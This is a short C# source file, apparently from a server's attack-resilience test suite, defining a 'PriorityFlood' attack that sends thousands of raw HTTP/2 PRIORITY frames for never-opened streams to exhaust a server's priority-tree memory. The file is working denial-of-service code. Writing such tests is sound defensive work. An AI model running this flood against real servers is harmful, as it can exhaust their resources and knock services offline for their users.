using ExtProc.Attacks.Running;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Frames;

/// <summary>PRIORITY frames for streams that were never opened; a server that builds the tree keeps all of them.</summary>
internal sealed class PriorityFlood : Attack
{
    private const byte PriorityFrame = 2;

    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        for (int round = 0; round < target.Count(50, 2000) && !peer.Gone; round++)
        {
            await peer.WriteAsync(Enumerable.Range(0, 100).SelectMany(_ => Frame(PriorityFrame, 0, peer.NextStream(), [0, 0, 0, 0, 16])).ToArray());
        }
    });
}
